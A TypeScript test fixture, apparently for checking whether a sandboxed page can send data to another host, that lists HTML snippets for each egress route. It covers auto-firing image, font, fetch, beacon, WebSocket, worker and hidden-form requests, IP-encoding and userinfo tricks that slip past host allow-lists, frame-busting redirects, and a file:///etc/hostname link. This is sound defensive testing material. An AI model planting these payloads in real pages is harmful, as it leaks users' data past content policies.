/** Screens that want to carry what they know to another host. Each kind knocks at its own path there. */

/** `there` is the other host (http://…), `here` the allowed one; `path` names the knock. */
type Markup = (to: { there: string; here: string; path: string }) => string;

const script = (code: string): string => `<script>try{${code}}catch(e){}</script>`;

/** Go off by themselves while the page is open. The page itself stays usable. */
export const quietEscapes: Readonly<Record<string, Markup>> = {
  picture: ({ there, path }) => `<img src="${there}${path}">`,
  prefetch: ({ there, path }) => `<link rel=prefetch href="${there}${path}">`,
  preconnect: ({ there, path }) => `<link rel=preload as=fetch href="${there}${path}">`,
  style: ({ there, path }) => `<link rel=stylesheet href="${there}${path}">`,
  background: ({ there, path }) => `<div style="background:url(${there}${path})">背景</div>`,
  "script-file": ({ there, path }) => `<script src="${there}${path}"></script>`,
  module: ({ there, path }) => `<script type=module>import "${there}${path}"</script>`,
  "inner-frame": ({ there, path }) => `<iframe src="${there}${path}" width=9 height=9></iframe>`,
  object: ({ there, path }) => `<object data="${there}${path}"></object>`,
  video: ({ there, path }) => `<video src="${there}${path}" preload=auto></video>`,
  font: ({ there, path }) =>
    `<style>@font-face{font-family:x;src:url(${there}${path})}b{font-family:x}</style><b>字</b>`,
  fetch: ({ there, path }) => script(`fetch("${there}${path}",{mode:"no-cors"}).catch(()=>0)`),
  xhr: ({ there, path }) =>
    script(`const x=new XMLHttpRequest();x.open("POST","${there}${path}");x.send("a")`),
  beacon: ({ there, path }) => script(`navigator.sendBeacon("${there}${path}","a")`),
  events: ({ there, path }) => script(`new EventSource("${there}${path}")`),
  socket: ({ there, path }) => script(`new WebSocket("${there.replace("http", "ws")}${path}")`),
  worker: ({ there, path }) =>
    script(
      `new Worker(URL.createObjectURL(new Blob(['fetch("${there}${path}",{mode:"no-cors"}).catch(()=>0)'])))`,
    ),
  "service-worker": ({ there, path }) =>
    script(`navigator.serviceWorker.register("${there}${path}").catch(()=>0)`),
  "form-in-frame": ({ there, path }) =>
    `<iframe name=q width=9 height=9></iframe><form id=qf target=q method=post action="${there}${path}"></form>${script('document.getElementById("qf").submit()')}`,
  "decimal-address": ({ there, path }) =>
    `<img src="http://2130706433:${new URL(there).port}${path}">`,
  "six-address": ({ there, path }) =>
    `<img src="http://[::ffff:127.0.0.1]:${new URL(there).port}${path}">`,
  "user-in-address": ({ there, here, path }) =>
    `<img src="http://${new URL(here).host}@${new URL(there).host}${path}">`,
};

/** Leave the page when 「行く」 is pressed. */
export const loudEscapes: Readonly<Record<string, Markup>> = {
  link: ({ there, path }) => `<a href="${there}${path}">行く</a>`,
  "new-window": ({ there, path }) =>
    `<button onclick="window.open('${there}${path}')">行く</button>`,
  form: ({ there, path }) =>
    `<form method=post action="${there}${path}"><input name=a value=b><button>行く</button></form>`,
  "top-of-frame": ({ there, path }) =>
    `<iframe srcdoc="<script>addEventListener('message',()=>{top.location='${there}${path}'})</script>"></iframe><button onclick="frames[0].postMessage(1,'*')">行く</button>`,
  refresh: ({ there, path }) =>
    `<button onclick="document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content=&quot;0;url=${there}${path}&quot;>')">行く</button>`,
  "local-file": () => `<a href="file:///etc/hostname">行く</a>`,
};
